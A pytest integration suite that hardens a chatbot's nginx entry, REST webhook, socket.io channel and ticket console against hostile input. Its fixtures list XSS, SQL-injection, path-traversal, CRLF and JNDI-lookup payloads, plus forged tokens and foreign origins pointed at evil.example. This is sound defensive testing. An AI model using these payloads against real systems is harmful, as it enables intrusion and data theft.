"""Hostile traffic through the scale-out's only entry (nginx): bodies that are huge, binary-ish,
full of control characters, HTML and script, SQL, malformed JSON or of the wrong content type;
made-up session ids, forged session tokens and foreign Origins; against the REST channel,
socket.io, the history endpoint and the console API. Never a 5xx, never a stack trace to the
client, what is stored is shown escaped, and only a session the web server issued is taken.
"""

from __future__ import annotations

import concurrent.futures
import contextlib
import http.client
import json
import queue
import random
import re
import secrets
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import psycopg2
import pytest
import requests
import socketio

from channels.widget_session import TOKEN_HEADER, WidgetSessions
from scripts import scale
from tests.factories import csrf_of, texts
from tickets import staff, store

pytestmark = pytest.mark.integration

TOPOLOGY = scale.Topology.load()
ENTRY = TOPOLOGY.entry
TICKETS_DB = TOPOLOGY.postgres("tickets")
LOGS = scale.STATE / "logs"
LEAKS = re.compile(r"Traceback|File \"/|site-packages|sqlalchemy|psycopg2|Exception:", re.I)
RNG = random.Random(20261202)


@pytest.fixture()
def agent(cluster):
    """A support agent of the scale-out's ticket database, with a password of its own,
    switched off again afterwards (no test account stays usable there)."""
    name, password = f"hostile{uuid.uuid4().hex[:8]}", secrets.token_urlsafe(16)
    staff.create_staff(name, password, "agent", "测试客服", database_url=TICKETS_DB)
    yield name, password
    connection = psycopg2.connect(TICKETS_DB)
    with connection, connection.cursor() as cursor:
        cursor.execute("UPDATE staff_users SET active = false WHERE username = %s", (name,))
    connection.close()


def binaryish(n: int) -> str:
    return bytes(RNG.randrange(256) for _ in range(n)).decode("latin-1")


#: Texts a hostile or broken client sends, by family.
TEXTS = {
    "script": [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "javascript:alert`1`",
        '"><svg/onload=alert(1)>',
        "<iframe src=//evil.example>",
    ],
    "sql": [
        "'; DROP TABLE tickets; --",
        "1 OR 1=1",
        "admin'--",
        '" UNION SELECT * FROM staff_users --',
        "%' AND sleep(5) --",
    ],
    "control": [
        "\x00",
        "a\x00b",
        "\x1b[31m红\x1b[0m",
        "\u202e反转\u202c",
        "\r\n\r\nHTTP/1.1 200 OK",
        "\ufeff\u200b\u200d",
    ],
    "binaryish": [binaryish(64), binaryish(2000)],
    "huge": ["网" * 20_001, "a" * 100_000],
    "emoji": ["🤬" * 50, "👍🏽👩‍👩‍👧‍👦"],
    "template": ["{{7*7}}", "${jndi:ldap://evil.example/a}", "{ticket_number}", "%s%s%s%n"],
}
SENDERS = [
    "default",
    "",
    " ",
    "../../etc/passwd",
    "a" * 129,
    "\x00",
    "<b>x</b>",
    12345,
    None,
    ["list"],
    {"dict": 1},
]


def post_raw(body: bytes, content_type: str | None) -> requests.Response:
    headers = {"Content-Type": content_type} if content_type else {}
    return requests.post(f"{ENTRY}/webhooks/rest/webhook", data=body, headers=headers, timeout=90)


def assert_clean(answer: requests.Response, allowed: set[int]) -> None:
    assert answer.status_code in allowed, (answer.status_code, answer.text[:300])
    assert not LEAKS.search(answer.text), answer.text[:500]


@pytest.mark.parametrize(
    "family, text",
    [(f, t) for f, family in TEXTS.items() for t in family],
    ids=[f"{f}-{n}" for f, family in TEXTS.items() for n in range(len(family))],
)
def test_hostile_texts_get_an_answer_never_an_error(cluster, family, text):
    sender = f"hostile-{uuid.uuid4().hex[:10]}"
    answer = requests.post(
        f"{ENTRY}/webhooks/rest/webhook", json={"sender": sender, "message": text}, timeout=90
    )
    if len(json.dumps({"sender": sender, "message": text})) > 256 * 1024:
        assert_clean(answer, {413})  # nginx: larger than any message a person writes
        return
    assert_clean(answer, {200})
    assert texts(answer.json())  # always something polite to read
    assert "<script" not in texts(answer.json()) and "{{7*7}}" not in texts(answer.json())


@pytest.mark.parametrize("sender", SENDERS, ids=repr)
def test_forged_senders_are_refused_with_400(cluster, sender):
    answer = requests.post(
        f"{ENTRY}/webhooks/rest/webhook", json={"sender": sender, "message": "你好"}, timeout=30
    )
    assert_clean(answer, {400})


@pytest.mark.parametrize(
    "body, content_type",
    [
        (b'{"sender": "x", "message":', "application/json"),
        (b"[1, 2, 3]", "application/json"),
        (b'"just a string"', "application/json"),
        (b"sender=x&message=hi", "application/x-www-form-urlencoded"),
        (b"sender: x", "text/plain"),
        (
            b'--b\r\nContent-Disposition: form-data; name="message"\r\n\r\nhi\r\n--b--',
            "multipart/form-data; boundary=b",
        ),
        (b"", None),
        (b"\xff\xfe\x00\x00", "application/json"),
        (b'{"sender": "x", "message": "\\ud800"}', "application/json"),
        (b"{" * 5000 + b"}" * 5000, "application/json"),
    ],
    ids=[
        "cut-json",
        "array",
        "string",
        "form",
        "text",
        "multipart",
        "empty",
        "utf-32",
        "lone-surrogate",
        "deep-nesting",
    ],
)
def test_malformed_bodies_are_refused_with_400(cluster, body, content_type):
    assert_clean(post_raw(body, content_type), {400})


def test_wrong_methods_and_paths_are_plain_errors(cluster):
    for method, path in [
        ("GET", "/webhooks/rest/webhook"),
        ("PUT", "/webhooks/rest/webhook"),
        ("DELETE", "/console/api/tickets"),
        ("GET", "/../../etc/passwd"),
        ("GET", "/console/%00"),
        ("GET", "/socket.io/../conversations"),
    ]:
        answer = requests.request(method, f"{ENTRY}{path}", timeout=30)
        assert_clean(answer, {400, 401, 403, 404, 405})


def new_session() -> dict[str, str]:
    """A widget session issued by a web server through nginx: ``session_id`` and ``token``."""
    answer = requests.post(f"{ENTRY}/api/session", timeout=30)
    assert_clean(answer, {200})
    assert answer.headers["Cache-Control"] == "no-store"
    return answer.json()


def history(session_id: str, token: str | None) -> requests.Response:
    headers = {} if token is None else {TOKEN_HEADER: token}
    return requests.get(f"{ENTRY}/api/history/{session_id}", headers=headers, timeout=30)


def forged_tokens(session: dict[str, str]) -> list[str]:
    """Tokens a client could make up for ``session``: none of them the web server's."""
    stamp, signature = session["token"].split(".")
    return [
        "",
        session["token"][:-1],
        session["token"] + "0",
        f"{stamp}.{'0' * 64}",
        f"{int(stamp) + 1}.{signature}",
        WidgetSessions("a secret that is not the servers'").token_for(session["session_id"], 1),
        new_session()["token"],  # another session's real token
        "x" * 5000,
    ]


@pytest.mark.parametrize(
    "session", ["default", "0" * 31, "g" * 32, "a" * 33, "' OR 1=1 --", "%00" * 8, "..%2f" * 8]
)
def test_forged_history_ids_are_refused(cluster, session):
    assert_clean(history(session, new_session()["token"]), {400, 404})


def test_history_refuses_a_made_up_session_or_a_forged_token(cluster):
    made_up = uuid.uuid4().hex
    for token in (None, new_session()["token"]):
        answer = history(made_up, token)
        assert_clean(answer, {403})
        assert "session token" in answer.json()["error"]
    session = new_session()
    for token in forged_tokens(session):
        assert_clean(history(session["session_id"], token or None), {403})
    # the token in the URL counts for nothing (URLs end up in access logs)
    in_url = requests.get(
        f"{ENTRY}/api/history/{session['session_id']}",
        params={"token": session["token"]},
        timeout=30,
    )
    assert_clean(in_url, {403})


def test_an_issued_session_reads_its_history_empty_at_first(cluster):
    session = new_session()
    answer = history(session["session_id"], session["token"])
    assert_clean(answer, {200})
    assert answer.json()["turns"] == []


@pytest.mark.parametrize(
    "headers",
    [
        {},
        {"Authorization": "Bearer "},
        {"Authorization": "Bearer ' OR 1=1 --"},
        {"Authorization": "Basic YWRtaW46YWRtaW4="},
        {"Authorization": "Bearer " + "x" * 5000},
    ],
    ids=["none", "empty", "sql", "basic", "huge"],
)
def test_the_console_api_wants_a_real_token(cluster, headers):
    for path in (
        "/console/api/tickets?status=<script>&priority=' OR 1=1",
        "/console/api/tickets/x",
    ):
        assert_clean(requests.get(f"{ENTRY}{path}", headers=headers, timeout=30), {401})
    answer = requests.post(
        f"{ENTRY}/console/api/tickets/DY-1/note", data=b"{not json", headers=headers, timeout=30
    )
    assert_clean(answer, {401})


def test_junk_to_the_console_api_with_a_token_is_a_clear_4xx(cluster, agent):
    name, _ = agent
    token = staff.create_token(name, "hostile test", database_url=TICKETS_DB)
    headers = {"Authorization": f"Bearer {token}"}
    listing = requests.get(
        f"{ENTRY}/console/api/tickets",
        params={"status": "<script>", "priority": "' OR 1=1 --", "page": "-1e309"},
        headers=headers,
        timeout=30,
    )
    assert_clean(listing, {200, 400})
    for body, kind in [
        (b"{not json", "application/json"),
        (b"[]", "application/json"),
        (json.dumps({"text": "\x00" * 10}).encode(), "application/json"),
        (b"text=hi", "application/x-www-form-urlencoded"),
    ]:
        answer = requests.post(
            f"{ENTRY}/console/api/tickets/DY-20260101-0001/note",
            data=body,
            headers={**headers, "Content-Type": kind},
            timeout=30,
        )
        assert_clean(answer, {400, 404, 409, 415})


def test_a_stored_script_is_shown_escaped_on_the_ticket_page(cluster, agent):
    sender = f"hostile-{uuid.uuid4().hex[:10]}"
    attack = "<script>alert('xss')</script><img src=x onerror=alert(2)>"
    for message in ("网络老是掉线", attack, "还是不行", "没用", "/deny"):
        assert_clean(
            requests.post(
                f"{ENTRY}/webhooks/rest/webhook",
                json={"sender": sender, "message": message},
                timeout=90,
            ),
            {200},
        )
    (ticket,) = store.list_for_sender(sender, database_url=TICKETS_DB)
    assert any(attack in (turn.get("text") or "") for turn in ticket.transcript)  # kept as written
    name, password = agent
    session = requests.Session()
    form = session.get(f"{ENTRY}/console/login", timeout=30).text
    reply = session.post(
        f"{ENTRY}/console/login",
        data={"username": name, "password": password, "csrf": csrf_of(form)},
        allow_redirects=False,
        timeout=30,
    )
    assert reply.status_code == 302
    page = session.get(f"{ENTRY}/console/tickets/{ticket.number}", timeout=30)
    assert page.status_code == 200
    assert "&lt;script&gt;alert(" in page.text
    assert "<script>alert(" not in page.text and "onerror=alert(2)>" not in page.text


def websocket_upgrade(origin: str | None) -> int:
    """The status of a WebSocket upgrade to /socket.io/ sent with ``origin``."""
    connection = http.client.HTTPConnection(
        TOPOLOGY.data["entry"]["host"], TOPOLOGY.data["entry"]["port"], timeout=30
    )
    headers = {
        "Upgrade": "websocket",
        "Connection": "Upgrade",
        "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
        "Sec-WebSocket-Version": "13",
    }
    if origin is not None:
        headers["Origin"] = origin
    connection.request("GET", "/socket.io/?EIO=4&transport=websocket", headers=headers)
    status = connection.getresponse().status
    connection.close()
    return status


@pytest.mark.parametrize(
    "origin",
    [
        "http://evil.example",
        "null",
        "http://127.0.0.1:8080.evil.example",
        "https://127.0.0.1:8080",
        "http://localhost:8081",
    ],
)
def test_socket_io_refuses_foreign_origins(cluster, origin):
    assert websocket_upgrade(origin) == 403


def test_socket_io_takes_its_own_pages_and_clients_without_an_origin(cluster):
    assert websocket_upgrade(TOPOLOGY.data["origins"][0]) == 101
    assert websocket_upgrade(None) == 101


@dataclass
class WidgetSocket:
    """A socket.io client through nginx as the widget's page opens it, with what it got."""

    client: socketio.Client
    confirmed: queue.Queue[str] = field(default_factory=queue.Queue)
    refused: queue.Queue[object] = field(default_factory=queue.Queue)
    replies: queue.Queue[dict] = field(default_factory=queue.Queue)

    def replies_within(self, seconds: float) -> list[dict]:
        self.client.sleep(seconds)
        said = []
        while not self.replies.empty():
            said.append(self.replies.get_nowait())
        return said


@contextlib.contextmanager
def widget_socket() -> Iterator[WidgetSocket]:
    socket = WidgetSocket(socketio.Client(reconnection=False))
    socket.client.on("session_confirm", socket.confirmed.put)
    socket.client.on("session_refused", lambda *_: socket.refused.put(True))
    socket.client.on("bot_uttered", socket.replies.put)
    socket.client.connect(
        ENTRY,
        transports=["websocket"],
        socketio_path="/socket.io",
        headers={"Origin": TOPOLOGY.data["origins"][0]},
    )
    try:
        yield socket
    finally:
        socket.client.disconnect()


def test_socket_io_refuses_a_made_up_session_and_takes_an_issued_one(cluster):
    made_up = uuid.uuid4().hex
    with widget_socket() as socket:
        for request in (
            {"session_id": made_up},
            {"session_id": made_up, "token": new_session()["token"]},
            {"session_id": made_up, "token": f"1.{'0' * 64}"},
        ):
            socket.client.emit("session_request", request)
            assert socket.refused.get(timeout=10)
        socket.client.emit("user_uttered", {"message": "你好", "session_id": made_up})
        assert socket.refused.get(timeout=10)
        assert socket.replies_within(3) == []  # no turn taken
        assert socket.confirmed.empty()
        session = new_session()
        socket.client.emit("session_request", session)
        assert socket.confirmed.get(timeout=10) == session["session_id"]
        socket.client.emit("user_uttered", {"message": "你好", **session})
        assert socket.replies.get(timeout=60).get("text")
    assert history(made_up, None).status_code == 403  # and nothing was kept for it


def test_a_forged_token_does_not_listen_in_or_talk_in_another_conversation(cluster):
    """Someone who learnt a session id (not its token) neither joins its room, where its
    replies and staff messages go, nor takes a turn in it."""
    session = new_session()
    with widget_socket() as owner, widget_socket() as intruder:
        owner.client.emit("session_request", session)
        assert owner.confirmed.get(timeout=10) == session["session_id"]
        for token in forged_tokens(session):
            intruder.client.emit(
                "session_request", {"session_id": session["session_id"], "token": token}
            )
            assert intruder.refused.get(timeout=10)
            intruder.client.emit(
                "user_uttered",
                {"message": "转人工", "session_id": session["session_id"], "token": token},
            )
            assert intruder.refused.get(timeout=10)
        owner.client.emit("user_uttered", {"message": "你好", **session})
        assert owner.replies.get(timeout=60).get("text")
        assert intruder.replies_within(3) == []
        assert intruder.confirmed.empty()
    turns = history(session["session_id"], session["token"]).json()["turns"]
    assert [t["text"] for t in turns if t["role"] == "user"] == ["你好"]


def rasa_logs() -> dict[Path, int]:
    """The Rasa servers' logs of the scale-out, with their sizes now."""
    return {path: path.stat().st_size for path in sorted(LOGS.glob("rasa-*.log"))}


def test_socket_io_survives_junk(cluster):
    session = new_session()
    logs = rasa_logs()
    with widget_socket() as socket:
        socket.client.emit("session_request", session)
        assert socket.confirmed.get(timeout=10) == session["session_id"]
        for junk in (
            "not a dict",
            12345,
            None,
            ["x"],
            {"message": "hi"},
            {"message": "hi", "session_id": "default", "token": session["token"]},
            {"message": "hi", "session_id": "../../x", "token": session["token"]},
            {"message": "hi", "session_id": session["session_id"]},
            {"message": "hi", "session_id": session["session_id"], "token": ["x"]},
            {"message": "hi", **session, "metadata": "{not json"},
            {"message": {"nested": 1}, **session},
            {"message": "网" * 30_000, **session},
        ):
            socket.client.emit("user_uttered", junk)
        socket.client.emit("session_request", "not a dict")
        socket.client.emit("user_uttered", {"message": "你好", **session})
        replies: list[dict] = []
        while not any("您好" in (r.get("text") or "") for r in replies):  # still answering
            replies.append(socket.replies.get(timeout=60))
        replies += socket.replies_within(2)
    # a forged session id got nothing: every reply went to this session
    recipients = {r["recipient_id"] for r in replies if "recipient_id" in r}
    assert recipients <= {session["session_id"]}, recipients
    for path, size in logs.items():  # every piece of junk was refused, none crashed a handler
        with path.open("rb") as log:
            log.seek(size)
            written = log.read().decode("utf-8", "replace")
        assert "Traceback" not in written, written[-3000:]


def test_too_many_messages_from_one_client_get_a_polite_429(cluster):
    """The rate limit counts per client address (the local load test's 127.0.0.1 is exempt):
    a client at 127.0.0.2 sending 60 messages at once, far faster than a person types."""

    def send(n: int) -> tuple[int, str]:
        connection = http.client.HTTPConnection(
            TOPOLOGY.data["entry"]["host"],
            TOPOLOGY.data["entry"]["port"],
            timeout=60,
            source_address=("127.0.0.2", 0),
        )
        connection.request(
            "POST",
            "/webhooks/rest/webhook",
            body=json.dumps({"sender": f"flood-{n}", "message": "你好"}),
            headers={"Content-Type": "application/json"},
        )
        answer = connection.getresponse()
        result = answer.status, answer.read().decode("utf-8")
        connection.close()
        return result

    with concurrent.futures.ThreadPoolExecutor(max_workers=30) as pool:
        answers = list(pool.map(send, range(60)))
    statuses = [status for status, _ in answers]
    assert 429 in statuses and 200 in statuses
    assert set(statuses) <= {200, 429}
    refused = json.loads(next(body for status, body in answers if status == 429))
    assert "太快" in refused[0]["text"]
